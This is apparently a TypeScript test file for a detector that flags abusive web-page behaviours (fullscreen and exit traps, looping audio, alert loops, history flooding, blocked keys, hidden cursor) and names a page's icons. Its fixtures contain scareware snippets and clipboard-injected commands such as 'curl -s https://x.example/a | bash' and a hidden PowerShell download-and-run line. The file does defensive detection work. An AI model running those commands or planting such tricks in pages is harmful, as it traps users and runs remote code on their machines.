import { describe, expect, test } from 'vitest';
import { readBehaviours } from '../lib/facts/behaviours.ts';
import type { BehaviourKind } from '../lib/facts/types.ts';
import { documentOf, pageOf } from './support/content.ts';

const script = (code: string) => `<script>${code}</script>`;
const kindsOf = (html: string) => readBehaviours(documentOf(html)).map(({ kind }) => kind);

/** Both sides of each kind: what holds a person, and the innocent thing next to it. */
const CASES: readonly (readonly [BehaviourKind, readonly string[], readonly string[]])[] = [
  [
    'fullscreen',
    [
      script('document.onclick = () => document.documentElement.requestFullscreen()'),
      script('el.webkitRequestFullScreen()'),
    ],
    [script('document.exitFullscreen()'), '<p>requestFullscreen() shows an element on the whole screen.</p>'],
  ],
  [
    'leave-trap',
    [
      script('window.onbeforeunload = () => "stay"'),
      '<body onbeforeunload="return 1">',
      script('addEventListener("beforeunload", f)'),
    ],
    [script('addEventListener("unload", f)')],
  ],
  [
    'looping-sound',
    [
      '<audio src="a.mp3" autoplay loop></audio>',
      script('const a = new Audio("x.mp3"); a.loop = true; a.play()'),
      '<video src="alarm.mp4" autoplay loop></video>',
    ],
    [
      '<audio src="a.mp3" controls></audio>',
      '<video src="hero.mp4" autoplay loop muted></video>',
      script('a.play()'),
    ],
  ],
  [
    'speech',
    [script('speechSynthesis.speak(new SpeechSynthesisUtterance("call"))')],
    [script('speechSynthesis.getVoices()')],
  ],
  [
    'dialog-loop',
    [
      script('while (true) { alert("Virus") }'),
      script('setInterval(() => alert("call"), 100)'),
      script('for(;;)confirm("x")'),
    ],
    [script('alert("Saved")'), script('for (const a of b) { send(a) } function f() { alert("x") }')],
  ],
  [
    'history-flood',
    [
      script('for (let i = 0; i < 50; i++) history.pushState(null, "", "#" + i)'),
      script('window.onpopstate = () => history.pushState(null, "", location.href)'),
      script('addEventListener("popstate", function () { history.go(1) })'),
    ],
    [
      script('history.pushState(state, "", url)'),
      script('addEventListener("popstate", () => render(location.pathname))'),
    ],
  ],
  ['pointer-lock', [script('document.body.requestPointerLock()')], [script('document.exitPointerLock()')]],
  [
    'keyboard-lock',
    [script('navigator.keyboard.lock(["Escape"])')],
    [script('navigator.keyboard.getLayoutMap()')],
  ],
  [
    'blocked-keys',
    [
      script('document.onkeydown = function (e) { return false }'),
      '<body onkeydown="return false">',
      script('document.addEventListener("keydown", e => { if (e.keyCode === 123) { e.preventDefault() } })'),
      script('if (e.key === "Escape") { e.preventDefault(); e.stopPropagation() }'),
    ],
    [script('if (e.key === "Escape") close()'), script('if (e.key === "Enter") { e.preventDefault() }')],
  ],
  [
    'hidden-cursor',
    [
      '<body style="cursor: none">',
      '<style>* { margin: 0; cursor: none }</style>',
      script('document.body.style.cursor = "none"'),
    ],
    ['<style>.video:fullscreen { cursor: none }</style>', script('document.body.style.cursor = "wait"')],
  ],
  [
    'clipboard-command',
    [
      script('b.onclick = () => navigator.clipboard.writeText("powershell -w hidden iwr x | iex")'),
      script('t.value = "mshta https://x.example/a"; document.execCommand("copy")'),
      script("clipboard.write('curl -s https://x.example/a | bash')"),
    ],
    [
      script('navigator.clipboard.writeText(address)'),
      script('document.execCommand("copy")'),
      '<pre>powershell -c a</pre>',
      script('run("powershell")'),
      script('navigator.clipboard.readText()'),
    ],
  ],
];

describe.each(CASES)('%s', (kind, match, clear) => {
  test.each(match)('is read from %s', (html) => {
    expect(kindsOf(html)).toContain(kind);
  });

  test.each(clear)('is not read from %s', (html) => {
    expect(kindsOf(html)).not.toContain(kind);
  });
});

test('each kind stands once, and what was seen goes before what was read', () => {
  const doc = documentOf(`${script('a.requestFullscreen()')}${script('b.requestFullscreen()')}`);
  expect(readBehaviours(doc, ['fullscreen'])).toEqual([{ kind: 'fullscreen', seen: true, source: '' }]);
  expect(readBehaviours(doc)).toEqual([{ kind: 'fullscreen', seen: false, source: 'requestFullscreen' }]);
});

test('data blocks and scripts of other files are not read', () => {
  expect(
    kindsOf(
      '<script type="application/json">{"a":"requestFullscreen"}</script><script src="a.js">requestFullscreen</script>',
    ),
  ).toEqual([]);
});

test('a long script costs time in proportion to its length', () => {
  const cost = (text: string) => {
    const doc = documentOf(script(text));
    const start = performance.now();
    readBehaviours(doc);
    return performance.now() - start;
  };
  for (const unit of [
    'while (',
    'for(',
    'setInterval(',
    'onkeydown=',
    'onpopstate=',
    'keyCode==27',
    '.play()',
    ' ',
  ]) {
    const grown = (length: number) => unit.repeat(length / unit.length);
    const small = Math.max(1, cost(grown(4000)), cost(grown(4000)));
    expect(cost(grown(32_000)) / small).toBeLessThan(60);
  }
});

test('icons, pictures and names of a page', () => {
  const facts = pageOf(
    '<base href="https://cdn.example/"><link rel="shortcut icon" href="/fox.ico"><link rel="icon" href="data:image/png,x"><link rel="apple-touch-icon" href="https://metamask.io/icon.png"><img src="img/MetaMask-Logo.svg?v=2" alt="MetaMask"><img src="/3f2a9c.png"><img src="data:image/png,x">',
  );
  expect(facts.icons).toEqual(['https://cdn.example/fox.ico', 'https://metamask.io/icon.png']);
  expect(facts.pictures).toEqual(['metamask-logo']);
  expect(facts.images).toEqual(['MetaMask']);
});
